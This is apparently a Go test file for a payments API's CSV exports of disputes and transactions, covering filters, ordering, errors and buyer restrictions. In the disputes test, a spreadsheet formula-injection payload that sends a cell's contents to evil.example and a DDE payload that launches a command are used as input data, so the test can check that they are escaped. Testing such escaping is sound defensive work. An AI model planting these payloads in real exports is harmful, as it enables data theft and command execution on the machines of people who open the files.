package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"disputed/internal/actor"
	"disputed/internal/app"
	"disputed/internal/csvout"
	"disputed/internal/httpapi"
	"disputed/internal/testenv"
)

// csvRows reads a CSV answer: its header and rows, after checking that it is one, whole (ending
// with CRLF) and named as a download.
func csvRows(t *testing.T, r testenv.Response, name string) (header []string, rows [][]string) {
	t.Helper()
	if r.Status != 200 {
		t.Fatalf("status %d: %s", r.Status, r.Raw)
	}
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd, want := r.Header.Get("Content-Disposition"), `attachment; filename="`+name+`-20260302.csv"`; cd != want {
		t.Errorf("Content-Disposition = %q, want %q", cd, want)
	}
	if !bytes.HasSuffix(r.Raw, []byte("\r\n")) {
		t.Errorf("the file does not end with CRLF: %q", r.Raw)
	}
	all, err := csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("not CSV (%v): %q", err, r.Raw)
	}
	return all[0], all[1:]
}

// column is the cells of the named column.
func column(t *testing.T, header []string, rows [][]string, name string) []string {
	t.Helper()
	i := slices.Index(header, name)
	if i < 0 {
		t.Fatalf("no column %s in %v", name, header)
	}
	var out []string
	for _, r := range rows {
		out = append(out, r[i])
	}
	return out
}

// TestDisputesCSV exports disputes across several pages of the store (testenv.ExportPage) by the
// .csv path and by Accept, with the list's filters, its escaping and a party's restriction.
func TestDisputesCSV(t *testing.T) {
	t.Parallel()
	testenv.EachServed(t, func(t *testing.T, e *testenv.Env, c *testenv.Client) {
		var ids []string
		var first testenv.Sale
		for i := range 7 {
			e.Clock.Advance(time.Second)
			sale := e.Sale(testenv.SaleParams{Amount: 1295, Currency: "USD"}) // one open dispute per order
			if i == 0 {
				first = sale
			}
			typ := "chargeback"
			if i%3 == 0 {
				typ = "inquiry"
			}
			ids = append(ids, e.Dispute(sale, typ, func(p *app.DisputeParams) {
				p.Description = `=HYPERLINK("http://evil.example/?"&A1,"click"), said "no"` + "\nthen left"
				p.CaseNumber = "-2+3+cmd|' /C calc'!A0"
			}).ID)
		}
		e.Clock.Advance(time.Second)
		other := e.Sale(testenv.SaleParams{Amount: 500, Currency: "EUR"})
		mine := e.Dispute(other, "chargeback").ID
		newestFirst := append([]string{mine}, reversed(ids)...)

		header, rows := csvRows(t, c.Get("/v1/disputes.csv"), "disputes")
		if want := csvout.Header(csvout.DisputeColumns); !slices.Equal(header, want) {
			t.Errorf("header = %v, want %v", header, want)
		}
		if got := column(t, header, rows, "id"); !slices.Equal(got, newestFirst) {
			t.Fatalf("ids = %v, want every dispute newest first %v", got, newestFirst)
		}
		oldest := testenv.Must(e.App.Dispute(e.Ctx, testenv.Admin, ids[0]))(t)
		want := map[string]string{"amount": "1295", "amount_decimal": "12.95", "currency": "USD", "type": "inquiry",
			"description": `'=HYPERLINK("http://evil.example/?"&A1,"click"), said "no"` + "\nthen left",
			"case_number": "'-2+3+cmd|' /C calc'!A0", "transaction_id": first.Charge.ID, "customer_id": first.Customer.ID,
			"created_at": oldest.CreatedAt.UTC().Format(time.RFC3339Nano), "resolved_at": ""}
		for name, v := range want {
			if got := rows[len(rows)-1][slices.Index(header, name)]; got != v {
				t.Errorf("the oldest row's %s = %q, want %q", name, got, v)
			}
		}

		byAccept := c.Do("GET", "/v1/disputes", nil, "Accept", "text/csv")
		if plain := c.Get("/v1/disputes.csv"); !bytes.Equal(byAccept.Raw, plain.Raw) {
			t.Errorf("Accept: text/csv answered\n%s\nnot the .csv\n%s", byAccept.Raw, plain.Raw)
		}
		if v := byAccept.Header.Get("Vary"); v != "Accept" {
			t.Errorf("Vary = %q", v)
		}
		jsonList := c.Do("GET", "/v1/disputes", nil, "Accept", "application/json, text/csv;q=0.5")
		if got := listedIDs(t, jsonList); len(got) != 8 {
			t.Errorf("JSON preferred: %d disputes, %s", len(got), jsonList.Raw)
		}

		_, inquiries := csvRows(t, c.Get("/v1/disputes.csv?type=inquiry"), "disputes")
		if got := column(t, header, inquiries, "id"); !slices.Equal(got, []string{ids[6], ids[3], ids[0]}) {
			t.Errorf("type=inquiry: %v", got)
		}
		_, ofOrder := csvRows(t, c.Do("GET", "/v1/disputes?order_id="+other.Order.ID, nil, "Accept", "text/csv"), "disputes")
		if got := column(t, header, ofOrder, "id"); !slices.Equal(got, []string{mine}) {
			t.Errorf("order_id by Accept: %v", got)
		}
		_, none := csvRows(t, c.Get("/v1/disputes.csv?q=nothing-matches-this"), "disputes")
		if len(none) != 0 {
			t.Errorf("no match gave rows %v", none)
		}
		testenv.WantError(t, c.Get("/v1/disputes.csv?status=bogus"), 422, "invalid_value", "status")
		testenv.WantError(t, c.Do("GET", "/v1/disputes?status=bogus", nil, "Accept", "text/csv"), 422, "invalid_value", "status")
		testenv.WantError(t, c.Get("/v1/disputes.csv?limit=5"), 400, "unknown_parameter")

		buyer := c.As(e.NewKey(actor.Buyer, other.Customer.ID))
		_, own := csvRows(t, buyer.Get("/v1/disputes.csv"), "disputes")
		if got := column(t, header, own, "id"); !slices.Equal(got, []string{mine}) {
			t.Errorf("a buyer's export: %v, want only %s", got, mine)
		}
		testenv.WantStatus(t, c.As("").Get("/v1/disputes.csv"), 401)
	})
}

// TestTransactionsCSV exports transactions with the list's filters and time range, a party's
// only, across pages.
func TestTransactionsCSV(t *testing.T) {
	t.Parallel()
	testenv.EachServed(t, func(t *testing.T, e *testenv.Env, c *testenv.Client) {
		var charges []string
		for range 4 {
			e.Clock.Advance(time.Second)
			charges = append(charges, e.Sale(testenv.SaleParams{Amount: 2500, Currency: "EUR"}).Charge.ID)
		}
		e.Clock.Advance(time.Second)
		midway := e.Clock.Now()
		s := e.Sale(testenv.SaleParams{Amount: 1000, Currency: "JPY"})
		e.Clock.Advance(time.Second)
		three := int64(300)
		refund := testenv.Must(e.App.Refund(e.Ctx, testenv.Admin, s.Charge.ID, app.RefundParams{Money: app.Money{Amount: &three}}))(t).ID

		header, rows := csvRows(t, c.Get("/v1/transactions.csv"), "transactions")
		if want := csvout.Header(csvout.TransactionColumns); !slices.Equal(header, want) {
			t.Errorf("header = %v, want %v", header, want)
		}
		if got, want := column(t, header, rows, "id"), append([]string{refund, s.Charge.ID}, reversed(charges)...); !slices.Equal(got, want) {
			t.Errorf("ids = %v, want %v", got, want)
		}
		if got := rows[0]; got[slices.Index(header, "amount")] != "300" || got[slices.Index(header, "amount_decimal")] != "300" ||
			got[slices.Index(header, "currency")] != "JPY" || got[slices.Index(header, "parent_id")] != s.Charge.ID {
			t.Errorf("the refund's row: %v", got)
		}
		if got := rows[len(rows)-1]; got[slices.Index(header, "amount_decimal")] != "25.00" || got[slices.Index(header, "type")] != "charge" {
			t.Errorf("the first charge's row: %v", got)
		}

		_, later := csvRows(t, c.Get("/v1/transactions.csv?created_from="+url.QueryEscape(midway.Format(time.RFC3339Nano))), "transactions")
		if got := column(t, header, later, "id"); !slices.Equal(got, []string{refund, s.Charge.ID}) {
			t.Errorf("created_from: %v", got)
		}
		_, refunds := csvRows(t, c.Do("GET", "/v1/transactions?type=refund", nil, "Accept", "text/csv"), "transactions")
		if got := column(t, header, refunds, "id"); !slices.Equal(got, []string{refund}) {
			t.Errorf("type=refund: %v", got)
		}
		testenv.WantError(t, c.Get("/v1/transactions.csv?created_from=2030-01-01T00:00:00Z&created_before=2029-01-01T00:00:00Z"), 422, "invalid_value", "created_before")

		_, own := csvRows(t, c.As(e.NewKey(actor.Buyer, s.Customer.ID)).Get("/v1/transactions.csv"), "transactions")
		if got := column(t, header, own, "id"); !slices.Equal(got, []string{refund, s.Charge.ID}) {
			t.Errorf("a buyer's export: %v", got)
		}
	})
}

// TestCSVColumnsAreJSONFields keeps the exports' headers the JSON names of the list objects'
// fields, so that a column means what the field of the same name does.
func TestCSVColumnsAreJSONFields(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		columns []string
		object  any
	}{
		{csvout.Header(csvout.DisputeColumns), httpapi.Dispute{}},
		{csvout.Header(csvout.TransactionColumns), httpapi.Transaction{}},
	} {
		raw, err := json.Marshal(tc.object)
		if err != nil {
			t.Fatal(err)
		}
		var fields map[string]json.RawMessage
		if err := json.Unmarshal(raw, &fields); err != nil {
			t.Fatal(err)
		}
		for _, name := range tc.columns {
			if _, ok := fields[name]; !ok {
				t.Errorf("%s: column %s is no JSON field", reflect.TypeOf(tc.object).Name(), name)
			}
		}
		if len(tc.columns) != len(slices.Compact(slices.Sorted(slices.Values(tc.columns)))) {
			t.Errorf("%s: a column repeats: %s", reflect.TypeOf(tc.object).Name(), strings.Join(tc.columns, ","))
		}
	}
}

func reversed(s []string) []string {
	r := slices.Clone(s)
	slices.Reverse(r)
	return r
}
